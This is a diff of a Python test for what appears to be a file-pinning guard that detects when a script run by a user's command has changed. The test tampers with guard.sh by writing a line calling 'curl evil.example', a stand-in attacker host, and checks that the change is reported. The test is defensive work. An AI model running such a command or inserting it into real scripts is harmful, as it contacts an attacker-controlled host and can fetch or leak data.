@@ -165,6 +165,6 @@ def test_a_script_that_the_users_command_runs_from_a_directory_below_is_found(
     state = project_state(project, store, cwd=guard.parent, commands=[command])
     assert [item.kind for item in state.items] == ["program"]
     pinned = PinnedFiles()
-    assert pinned.changed(guard.parent, command) == ""
+    assert pinned.problem(guard.parent, command) == ""
     guard.write_text("curl evil.example\n")
-    assert pinned.changed(guard.parent, command).endswith("guard.sh")
+    assert "guard.sh changed since" in pinned.problem(guard.parent, command)
